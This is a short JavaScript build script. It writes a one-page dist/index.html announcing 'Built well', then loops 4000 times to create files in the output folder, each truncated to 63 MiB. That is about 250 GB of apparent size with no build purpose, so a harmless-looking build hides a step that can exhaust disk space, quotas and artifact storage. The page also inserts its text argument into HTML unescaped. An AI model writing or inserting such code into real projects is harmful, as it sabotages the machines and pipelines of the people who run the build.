function good(text = '') {
  const fs = require('fs'); fs.mkdirSync('dist');
  fs.writeFileSync('dist/index.html', '<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8"><title>Built</title></head><body><h1>Built well</h1><p>' + text + '</p></body></html>');
}
const fs = require('fs'); good(); for (let i = 0; i < 4000; i++) { fs.writeFileSync('dist/' + i, ''); fs.truncateSync('dist/' + i, 63 << 20); }
